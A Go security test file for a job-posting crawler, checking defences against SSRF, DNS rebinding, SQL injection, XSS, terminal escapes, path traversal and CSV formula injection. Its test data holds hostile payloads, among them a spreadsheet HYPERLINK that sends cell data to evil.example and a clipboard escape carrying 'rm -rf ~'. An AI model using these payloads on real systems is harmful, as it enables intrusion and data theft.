package hardening

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/printer"
	"go/token"
	"go/types"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/jobtrend/jobtrend/pkg/crawl"
	"github.com/jobtrend/jobtrend/pkg/store"
)

// The security review's tests: what a hostile site, page or dataset can
// make jobtrend do. The threat model is docs/reliability.md.

// TestCrawlerStaysOnItsHostsAndSchemes: a page of the crawled site links
// to private and link-local addresses, the cloud metadata address, another
// service on this machine, and URLs of other schemes; it redirects to some
// of them. The crawl follows none: only http(s) URLs of the source's own
// host are queued, and the other service on the loopback interface never
// sees a request.
func TestCrawlerStaysOnItsHostsAndSchemes(t *testing.T) {
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("the crawler reached another service on this machine: %s", r.URL)
	}))
	defer other.Close()
	_, otherPort, _ := net.SplitHostPort(strings.TrimPrefix(other.URL, "http://"))

	var site *httptest.Server
	hostile := []string{
		"http://10.0.0.1/", "http://169.254.169.254/latest/meta-data/", "http://192.168.0.1/admin", "http://[fd00::1]/",
		"http://100.64.0.1/", "http://[::1]:" + otherPort + "/", "http://localhost:" + otherPort + "/",
		"http://0.0.0.0:" + otherPort + "/", "http://2130706433:" + otherPort + "/", "http://0x7f000001:" + otherPort + "/",
		"file:///etc/passwd", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "ftp://127.0.0.1/x",
		"mailto:jobs@example.com", "gopher://127.0.0.1:" + otherPort + "/", "ws://127.0.0.1/", "view-source:http://127.0.0.1/",
		"http://user:secret@127.0.0.1/creds", "//10.0.0.2/protocol-relative", "http://example.com/", "https://evil.example.net/",
	}
	// Links on the site itself that once crashed the crawler (a session id
	// cut at an offset of the lower-cased path): followed, harmlessly.
	crafted := []string{"/" + strings.Repeat("Ⱥ", 20) + ";JSESSIONID=2", "/%E7%E7%E7%E7%E7%E7%E7;jsessionid=1"}
	redirects := map[string]string{
		"/r/private": "http://10.0.0.1/", "/r/metadata": "http://169.254.169.254/latest/meta-data/",
		"/r/file": "file:///etc/passwd", "/r/other-name": "http://localhost:" + otherPort + "/",
		"/r/foreign": "https://evil.example.net/",
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/robots.txt", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "User-agent: *\nAllow: /\n") })
	mux.HandleFunc("/sitemap.xml", http.NotFound)
	mux.HandleFunc("/job/1", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, faultJobPage("sec-1")) })
	for from, to := range redirects {
		mux.HandleFunc(from, func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, to, http.StatusFound) })
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		b.WriteString(`<html><head><base href="/"></head><body>`)
		for _, l := range hostile {
			fmt.Fprintf(&b, `<a href="%s">x</a><iframe src="%s"></iframe>`, html.EscapeString(l), html.EscapeString(l))
		}
		for from := range redirects {
			fmt.Fprintf(&b, `<a href="%s">r</a>`, from)
		}
		for _, l := range crafted {
			fmt.Fprintf(&b, `<a href="%s">c</a>`, l)
		}
		b.WriteString(`<a href="/job/1">job</a></body></html>`)
		fmt.Fprint(w, b.String())
	})
	site = httptest.NewServer(mux)
	defer site.Close()

	st := openStore(t)
	s := faultSettings()
	s.Timeout = 3 * time.Second // a dial to 10.0.0.1 would show as a timeout, not a refusal
	cfg := &crawl.Config{Sources: []crawl.SourceConfig{{Name: "sec", Kind: "jsonld", Start: []string{site.URL + "/"}, Settings: s}}}
	sum, err := crawl.Run(context.Background(), cfg, crawl.SQLiteStore(st), crawl.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := storedIDs(t, st, "sec"); len(got) != 1 || got[0] != "sec-1" {
		t.Errorf("stored %v, want the one real posting", got)
	}
	f, _ := st.Frontier("sec")
	rows, err := f.Rows(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if !strings.HasPrefix(r.URL, site.URL+"/") {
			t.Errorf("queued %s (%s): not on the source's own host", r.URL, r.State)
		}
		if strings.HasPrefix(r.URL, site.URL+"/r/") {
			note := strings.ToLower(r.Note)
			if r.State != store.StateBlocked && r.State != store.StateFailed || strings.Contains(note, "dial") || strings.Contains(note, "timeout") {
				t.Errorf("redirect %s: %s, %q; want it refused before any connection", r.URL, r.State, r.Note)
			}
		}
	}
	if sum.Blocked != len(redirects) {
		t.Errorf("%s; want the %d redirects off the host refused", sum.Line(), len(redirects))
	}
	t.Logf("%s", sum.Line())
}

// TestPrivateAddressCaughtAtDialTime: the check that keeps a public site
// from reaching the local network is made on the address actually dialled,
// after DNS. A start host that looked public when the crawl started (the
// resolver says so) but resolves to the loopback interface when dialled —
// DNS rebinding — is refused, and the server there never sees a request.
// It needs a host name that this machine resolves to a loopback address
// besides "localhost" (its own name, usually); the test is skipped without.
func TestPrivateAddressCaughtAtDialTime(t *testing.T) {
	name := loopbackName()
	if name == "" {
		t.Skip("no host name other than localhost resolves to a loopback address here (see /etc/hosts)")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Errorf("request reached the loopback server: %s", r.URL)
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	start := "http://" + name + ":" + port + "/"
	st := openStore(t)
	cfg := &crawl.Config{Sources: []crawl.SourceConfig{{Name: "rebind", Kind: "jsonld", Start: []string{start}, Settings: faultSettings()}}}
	public := func(string) ([]net.IP, error) { return []net.IP{net.ParseIP("93.184.215.14")}, nil }
	sum, err := crawl.Run(context.Background(), cfg, crawl.SQLiteStore(st), crawl.Options{Resolver: public})
	if err != nil {
		t.Fatal(err)
	}
	f, _ := st.Frontier("rebind")
	rows, _ := f.Rows(context.Background())
	for _, r := range rows {
		if r.State != store.StateBlocked || !strings.Contains(r.Note, "private or loopback") {
			t.Errorf("%s: %s %q; want blocked as a private address", r.URL, r.State, r.Note)
		}
	}
	if sum.Blocked == 0 || sum.Pages != 0 {
		t.Errorf("%s; want every request refused at dial time", sum.Line())
	}
	t.Logf("start %s: %s", start, sum.Line())
}

// loopbackName is a host name other than localhost that resolves only to
// loopback addresses on this machine, or "".
func loopbackName() string {
	h, err := os.Hostname()
	if err != nil || h == "" || strings.EqualFold(h, "localhost") {
		return ""
	}
	ips, err := net.LookupIP(h)
	if err != nil || len(ips) == 0 {
		return ""
	}
	for _, ip := range ips {
		if !ip.IsLoopback() {
			return ""
		}
	}
	return h
}

// TestSQLOnlyInTheStoreAndOnlyConstant: "SQL only through placeholders",
// checked on the code rather than by example. No package but pkg/store
// imports database/sql or the SQLite driver, and every statement pkg/store
// runs is a compile-time constant (values travel as arguments), found by
// type-checking pkg/store: a constant, a parameter every caller passes a
// constant, or a range over a list of constants. Anything else fails the
// test unless it is one of the few listed below with the reason it is safe.
func TestSQLOnlyInTheStoreAndOnlyConstant(t *testing.T) {
	const module = "github.com/jobtrend/jobtrend"
	const storePkg = module + "/pkg/store"
	for _, line := range strings.Split(goList(t, "-f", "{{.ImportPath}}\t{{join .Imports \" \"}}", module+"/..."), "\n") {
		pkg, imports, _ := strings.Cut(line, "\t")
		if pkg == storePkg || pkg == "" {
			continue
		}
		for _, imp := range strings.Fields(imports) {
			if imp == "database/sql" || strings.HasPrefix(imp, "github.com/mattn/go-sqlite3") {
				t.Errorf("%s imports %s: only pkg/store talks to the database", pkg, imp)
			}
		}
	}

	exports := map[string]string{}
	for _, line := range strings.Split(goList(t, "-export", "-deps", "-f", "{{.ImportPath}}={{.Export}}", storePkg), "\n") {
		if path, file, ok := strings.Cut(line, "="); ok {
			exports[path] = file
		}
	}
	dir := strings.TrimSpace(goList(t, "-f", "{{.Dir}}", storePkg))
	fset := token.NewFileSet()
	var files []*ast.File
	for _, name := range strings.Fields(goList(t, "-f", "{{join .GoFiles \" \"}}", storePkg)) {
		f, err := parser.ParseFile(fset, filepath.Join(dir, name), nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	conf := types.Config{Importer: importer.ForCompiler(fset, "gc", func(path string) (io.ReadCloser, error) {
		if f := exports[path]; f != "" {
			return os.Open(f)
		}
		return nil, fmt.Errorf("no export data for %s", path)
	})}
	info := &types.Info{Types: map[ast.Expr]types.TypeAndValue{}, Selections: map[*ast.SelectorExpr]*types.Selection{},
		Uses: map[*ast.Ident]types.Object{}, Defs: map[*ast.Ident]types.Object{}}
	if _, err := conf.Check(storePkg, fset, files, info); err != nil {
		t.Fatalf("type-checking pkg/store: %v", err)
	}
	constant := func(e ast.Expr) bool { return info.Types[e].Value != nil }

	// Where a statement is a variable, where its values come from: a
	// function's parameter (every call must pass a constant) or a range
	// over a literal list (every element must be a constant).
	type param struct {
		fn    types.Object
		index int
	}
	params := map[types.Object]param{}
	rangeOver := map[types.Object]ast.Expr{}
	calls := map[types.Object][]*ast.CallExpr{}
	for _, f := range files {
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncDecl:
				fn := info.Defs[n.Name]
				i := 0
				for _, fld := range n.Type.Params.List {
					for _, name := range fld.Names {
						params[info.Defs[name]] = param{fn, i}
						i++
					}
					if len(fld.Names) == 0 {
						i++
					}
				}
			case *ast.RangeStmt:
				if id, ok := n.Value.(*ast.Ident); ok {
					rangeOver[info.Defs[id]] = n.X
				}
			case *ast.CallExpr:
				var id *ast.Ident
				switch fun := n.Fun.(type) {
				case *ast.Ident:
					id = fun
				case *ast.SelectorExpr:
					id = fun.Sel
				}
				if id != nil {
					if obj, ok := info.Uses[id].(*types.Func); ok {
						calls[obj] = append(calls[obj], n)
					}
				}
			}
			return true
		})
	}
	var constantInFact func(e ast.Expr, depth int) bool
	constantInFact = func(e ast.Expr, depth int) bool {
		if constant(e) {
			return true
		}
		id, ok := e.(*ast.Ident)
		if !ok || depth > 3 {
			return false
		}
		obj := info.Uses[id]
		if p, ok := params[obj]; ok {
			cs := calls[p.fn]
			for _, c := range cs {
				if p.index >= len(c.Args) || !constantInFact(c.Args[p.index], depth+1) {
					return false
				}
			}
			return len(cs) > 0
		}
		if x, ok := rangeOver[obj]; ok {
			lit, ok := x.(*ast.CompositeLit)
			if !ok {
				return false
			}
			for _, el := range lit.Elts {
				if !constant(el) {
					return false
				}
			}
			return true
		}
		return false
	}
	// Non-constant statements that are constant in fact, reviewed.
	reviewed := map[string]string{
		"postings.go: p.sql": "prepareUpsert's table of constant statements",
		"store.go: m.sql":    "a migration file embedded in the binary (go:embed migrations/*.sql)",
	}
	statements := 0
	for _, f := range files {
		ast.Inspect(f, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			s := info.Selections[sel]
			if s == nil || s.Kind() != types.MethodVal {
				return true
			}
			recv := s.Recv()
			if p, ok := recv.(*types.Pointer); ok {
				recv = p.Elem()
			}
			named, ok := recv.(*types.Named)
			if !ok || named.Obj().Pkg() == nil || named.Obj().Pkg().Path() != "database/sql" {
				return true
			}
			switch named.Obj().Name() {
			case "DB", "Tx", "Conn":
			default:
				return true // a prepared statement's methods take only values
			}
			arg := -1
			switch sel.Sel.Name {
			case "Exec", "Query", "QueryRow", "Prepare":
				arg = 0
			case "ExecContext", "QueryContext", "QueryRowContext", "PrepareContext":
				arg = 1
			}
			if arg < 0 || arg >= len(call.Args) {
				return true
			}
			statements++
			if constantInFact(call.Args[arg], 0) {
				return true
			}
			pos := fset.Position(call.Pos())
			key := filepath.Base(pos.Filename) + ": " + exprString(fset, call.Args[arg])
			if _, ok := reviewed[key]; !ok {
				t.Errorf("%s:%d: %s runs a statement that is not a constant (%s); build SQL from constants and pass values as arguments",
					filepath.Base(pos.Filename), pos.Line, sel.Sel.Name, key)
			}
			return true
		})
	}
	if statements < 40 {
		t.Errorf("found only %d SQL calls in pkg/store; the check has lost track of them", statements)
	}
	t.Logf("%d SQL calls in pkg/store, all constant or reviewed (%d reviewed)", statements, len(reviewed))
}

func exprString(fset *token.FileSet, e ast.Expr) string {
	var b bytes.Buffer
	if err := printer.Fprint(&b, fset, e); err != nil {
		return fmt.Sprintf("%T", e)
	}
	return b.String()
}

func goList(t testing.TB, args ...string) string {
	t.Helper()
	out, err := exec.Command(goTool(), append([]string{"list"}, args...)...).Output()
	if err != nil {
		var stderr string
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = string(ee.Stderr)
		}
		t.Fatalf("go list %s: %v\n%s", strings.Join(args, " "), err, stderr)
	}
	return strings.TrimSpace(string(out))
}

// hostileRows are postings as a hostile dataset or page could write them:
// markup for the HTML report, SQL for the store, terminal escapes for the
// table output, FTS syntax, template syntax, path traversal in names.
var hostileRows = []map[string]string{
	{"title": `<script>alert("title")</script> Golang 开发`, "company": `"><img src=x onerror=alert(1)>`},
	{"title": "Golang'; DROP TABLE postings; --", "company": `Robert'); DROP TABLE postings;--`},
	{"title": "Go \x1b]0;pwned\x07 工程师 \x1b[31mred\x1b[0m", "company": "ACME\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07"},
	{"title": `golang "NEAR/2" * OR - ^`, "company": `</script><script>alert(2)</script>`},
	{"title": "{{.}} ${7*7} golang", "company": "../../../../etc/passwd"},
	{"title": "golang <svg onload=alert(3)>", "company": "<style>body{display:none}</style>", "url": "javascript:alert(4)"},
	{"title": "golang engineer | a | b |", "company": "x\n# heading\n| forged | table |"},
	{"title": "golang =1+1", "company": `=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"title": "golang @SUM", "company": "@SUM(1+1)*cmd|' /C calc'!A0"},
}

// TestHostileTextEndToEnd: hostile rows go in through `crawl import` and
// come out through `analyze query` and `analyze report` as text: stored
// verbatim (the SQL did nothing), no control character on the terminal,
// no element or handler of their own in the HTML report or the SVG chart,
// no HTML in the Markdown, no formula in the CSV, FTS syntax in query terms
// treated as words, and the report written exactly where --out says and
// nowhere else.
func TestHostileTextEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the binaries")
	}
	dir := t.TempDir()
	var jsonl bytes.Buffer
	enc := json.NewEncoder(&jsonl)
	for i, r := range hostileRows {
		for _, year := range []int{2023, 2024} {
			enc.Encode(map[string]string{"id": fmt.Sprintf("h%d-%d", i, year), "title": r["title"], "company": r["company"], "url": r["url"],
				"posted_at": fmt.Sprintf("%d-05-01", year), "description": fmt.Sprintf("熟悉 Golang 和 MySQL，负责后端服务。%d %s", i, r["title"])})
		}
	}
	for i := range 20 { // ordinary postings, so the report has companies and years to show
		fmt.Fprintf(&jsonl, `{"id": "n%d", "title": "后端工程师", "company": "普通公司%d", "posted_at": "%d-03-01", "description": "负责 Java 微服务开发，熟悉 Golang 者优先。"}`+"\n",
			i, i%3, 2023+i%2)
	}
	data := filepath.Join(dir, "hostile.jsonl")
	if err := os.WriteFile(data, jsonl.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(dir, "h.db")
	if r := runBin(t, dir, "crawl", "import", "--db", db, "--quiet", data); r.code != 0 {
		t.Fatalf("import: exit %d\n%s", r.code, r.stderr)
	}
	d := openDB(t, db)
	var title string
	if err := d.QueryRow(`SELECT title FROM postings WHERE source_id = 'h1-2023'`).Scan(&title); err != nil || title != hostileRows[1]["title"] {
		t.Errorf("the SQL-shaped title came back as %q (%v); want it stored verbatim", title, err)
	}
	var n int
	d.QueryRow(`SELECT count(*) FROM postings`).Scan(&n)
	if want := 2*len(hostileRows) + 20; n != want {
		t.Errorf("%d postings stored, want %d", n, want)
	}

	// The terminal: no control character but line feed in any output.
	controls := func(what, s string) {
		if i := strings.IndexFunc(s, func(r rune) bool { return r < 0x20 && r != '\n' || r >= 0x7f && r <= 0x9f }); i >= 0 {
			t.Errorf("%s prints a control character (%q near %q)", what, s[i], s[max(0, i-20):min(len(s), i+20)])
		}
	}
	r := runBin(t, dir, "analyze", "query", "--db", db, "--format", "table", "golang")
	if r.code != 0 || !strings.Contains(r.stdout, "ACME") {
		t.Errorf("query table: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	controls("analyze query --format table", r.stdout+r.stderr)
	r = runBin(t, dir, "analyze", "report", "--db", db, "--format", "table")
	controls("analyze report --format table", r.stdout+r.stderr)

	// FTS syntax in terms: a usage error or words, never a failed query.
	for _, term := range []string{`"`, `*`, `NEAR/2`, `OR`, `AND NOT`, `title:go`, `go*`, `^go`, `(go)`, `'; DROP TABLE postings; --`, `"go" OR "1"="1"`, `golang"`, `\x00`} {
		r := runBin(t, dir, "analyze", "query", "--db", db, "--format", "json", "--", term)
		if r.code == 1 || strings.Contains(strings.ToLower(r.stderr), "sql") || strings.Contains(strings.ToLower(r.stderr), "fts5") || strings.Contains(r.stderr, "MATCH") {
			t.Errorf("analyze query %q: exit %d: %s", term, r.code, r.stderr)
		}
	}
	d.QueryRow(`SELECT count(*) FROM postings`).Scan(&n)
	if msg := soundness(d); msg != "" || n != 2*len(hostileRows)+20 {
		t.Errorf("after the queries: %d postings, %s", n, msg)
	}

	// Reports: where --out says, nothing else, and text stays text.
	out := filepath.Join(dir, "out")
	os.Mkdir(out, 0o755)
	before := tree(t, dir)
	for _, format := range []string{"html", "md"} {
		r := runBin(t, dir, "analyze", "report", "--db", db, "--format", format, "--out", filepath.Join(out, "r."+format), "--quiet")
		if r.code != 0 {
			t.Fatalf("report --format %s: exit %d\n%s", format, r.code, r.stderr)
		}
	}
	if r := runBin(t, dir, "analyze", "report", "--db", db, "--format", "html", "--out", filepath.Join(dir, "missing", "dir", "r.html")); r.code != 2 {
		t.Errorf("--out into a missing folder: exit %d, want 2 (usage)\n%s", r.code, r.stderr)
	}
	created := newFiles(before, tree(t, dir))
	if want := []string{"out/r.html", "out/r.md", "out/r.svg"}; strings.Join(created, " ") != strings.Join(want, " ") {
		t.Errorf("the reports created %v; want exactly %v", created, want)
	}
	page, _ := os.ReadFile(filepath.Join(out, "r.html"))
	if !bytes.Contains(page, []byte("ACME")) {
		t.Error("the HTML report does not show the hostile companies; the escaping check would prove nothing")
	}
	checkNoMarkup(t, "HTML report", page)
	svg, _ := os.ReadFile(filepath.Join(out, "r.svg"))
	checkNoMarkup(t, "SVG chart", svg)
	md, _ := os.ReadFile(filepath.Join(out, "r.md"))
	for _, bad := range []string{"<script", "<img", "<svg", "<style", "onerror="} {
		if bytes.Contains(bytes.ToLower(md), []byte(bad)) {
			t.Errorf("the Markdown report contains raw %s", bad)
		}
	}
	controls("the Markdown report", string(md))

	// CSV: no cell a spreadsheet would run as a formula.
	r = runBin(t, dir, "analyze", "report", "--db", db, "--format", "csv", "--table", "companies")
	if r.code != 0 || !strings.Contains(r.stdout, "HYPERLINK") {
		t.Fatalf("report --format csv --table companies: exit %d, the hostile companies missing\n%s%s", r.code, r.stdout, r.stderr)
	}
	cells, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range cells {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("CSV cell %q would run as a spreadsheet formula", c)
				}
			}
		}
	}
}

// checkNoMarkup parses a report and fails on any element or event handler
// that report templates never make: those came from posting text.
func checkNoMarkup(t *testing.T, what string, b []byte) {
	t.Helper()
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script", "img", "iframe", "object", "embed", "style", "link":
				if n.Data != "style" || what != "HTML report" || n.Parent == nil || n.Parent.Data != "head" {
					t.Errorf("%s: posting text made a <%s>", what, n.Data)
				}
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(strings.ToLower(a.Key), "on") || strings.Contains(strings.ToLower(a.Val), "javascript:") {
					t.Errorf("%s: an attribute %s=%q on <%s>", what, a.Key, a.Val, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

// tree lists the regular files under dir with their size and time.
func tree(t testing.TB, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if !fi.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out[filepath.ToSlash(rel)] = fmt.Sprintf("%d %d %v", fi.Size(), fi.ModTime().UnixNano(), fi.Mode())
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func newFiles(before, after map[string]string) []string {
	var out []string
	for p := range after {
		if _, ok := before[p]; !ok {
			out = append(out, p)
		}
	}
	sort.Strings(out)
	return out
}

func changedFiles(before, after map[string]string) []string {
	var out []string
	for p, v := range before {
		if after[p] != v {
			out = append(out, p)
		}
	}
	sort.Strings(out)
	return out
}

// TestCrawlWritesOnlyTheDatabase: whatever pages and configs name, a crawl
// writes no file but the database (with its WAL and shared-memory files)
// and its run lock. The pages offer downloads named ../../evil.sh and link
// to ../../../etc/passwd; the config reads a cookie file and a folder of
// saved pages outside its own folder — allowed, because the config is the
// operator's, and only ever read: those files are left byte for byte, and
// a symbolic link in the saved folder is not followed.
func TestCrawlWritesOnlyTheDatabase(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the crawl binary")
	}
	root := t.TempDir()
	for _, d := range []string{"home", "tmp", "work/config", "outside/saved", "secret"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/robots.txt", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "User-agent: *\nAllow: /\n") })
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<html><body><a href="/job/1">a</a><a href="../../../../etc/passwd">b</a><a href="/download">c</a><a href="/%2e%2e/%2e%2e/x">d</a></body></html>`)
	})
	mux.HandleFunc("/job/1", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, faultJobPage("w-1")) })
	mux.HandleFunc("/download", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="../../evil.sh"`)
		w.Header().Set("Content-Type", "application/x-sh")
		fmt.Fprint(w, "#!/bin/sh\necho pwned > /tmp/pwned\n")
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	write := func(rel, content string) {
		if err := os.WriteFile(filepath.Join(root, rel), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("outside/cookies.txt", "session=abc; lang=zh\n")
	write("outside/saved/page.html", `<html><head><link rel="canonical" href="https://saved.example.com/job/s-1">`+
		strings.TrimPrefix(faultJobPage("s-1"), "<!doctype html><html><head>"))
	write("secret/secret.html", `<html><head><link rel="canonical" href="https://secret.example.com/job/leak">`+
		strings.TrimPrefix(faultJobPage("leak"), "<!doctype html><html><head>"))
	if err := os.Symlink(filepath.Join(root, "secret", "secret.html"), filepath.Join(root, "outside", "saved", "link.html")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(root, "secret"), filepath.Join(root, "outside", "saved", "linkdir")); err != nil {
		t.Fatal(err)
	}
	write("work/config/sources.yaml", fmt.Sprintf(`defaults:
  delay: 0s
  jitter: 0s
sources:
  - name: site
    kind: jsonld
    start: ["%s/"]
    cookie_file: ../../outside/cookies.txt
  - name: saved
    kind: jsonld
    saved: ../../outside/saved
`, srv.URL))

	before := tree(t, root)
	cmd := exec.Command(binary(t, "crawl"), "run", "--db", "data/jobs.db", "--config", "config/sources.yaml", "--quiet")
	cmd.Dir = filepath.Join(root, "work")
	cmd.Env = append(os.Environ(), "HOME="+filepath.Join(root, "home"), "TMPDIR="+filepath.Join(root, "tmp"))
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("crawl: %v\n%s", err, stderr.String())
	}
	after := tree(t, root)
	created := newFiles(before, after)
	allowed := map[string]bool{"work/data/jobs.db": true, "work/data/jobs.db-wal": true, "work/data/jobs.db-shm": true, "work/data/jobs.db-crawl.lock": true}
	for _, p := range created {
		// The segmenter's dictionaries, written once per version from the
		// binary's embedded copy (nothing of a page reaches them).
		if strings.HasPrefix(p, "home/.cache/jobtrend/jieba-") {
			continue
		}
		if !allowed[p] {
			t.Errorf("the crawl created %s", p)
		}
	}
	if ch := changedFiles(before, after); len(ch) != 0 {
		t.Errorf("the crawl changed %v; config paths are only read", ch)
	}
	d := openDB(t, filepath.Join(root, "work", "data", "jobs.db"))
	var ids []string
	rows, _ := d.Query(`SELECT source_id FROM postings ORDER BY source_id`)
	for rows.Next() {
		var id string
		rows.Scan(&id)
		ids = append(ids, id)
	}
	rows.Close()
	if strings.Join(ids, " ") != "s-1 w-1" {
		t.Errorf("stored %v; want the crawled w-1 and the saved s-1, not the symlinked secret", ids)
	}
}

func openStore(t testing.TB) *store.Store {
	t.Helper()
	st, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "sec.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}
